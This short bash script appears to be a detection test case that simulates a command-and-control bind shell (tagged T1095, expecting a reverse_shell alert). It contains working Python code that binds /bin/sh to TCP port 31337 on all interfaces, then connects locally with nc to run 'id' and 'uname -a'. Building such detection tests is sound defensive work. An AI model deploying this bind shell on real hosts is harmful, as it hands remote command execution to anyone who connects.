#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1095 Non-Application Layer Protocol (bind shell)
# behaviour: a shell listens on a TCP port for the operator to connect in (here the operator is played by nc from the same namespace)
# as: user
# expect: reverse_shell
set -u
python3 -c "
import os, socket, subprocess
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(('0.0.0.0', 31337)); l.listen(1)
c, _ = l.accept()
subprocess.call(['/bin/sh', '-i'], stdin=c, stdout=c, stderr=c)
" &
srv=$!
for i in $(seq 50); do ss -ltn | grep -q ':31337 ' && break; sleep 0.1; done
( sleep 1; printf 'id\nuname -a\nexit\n' ) | timeout 10 nc 127.0.0.1 31337 > /dev/null || true
wait $srv
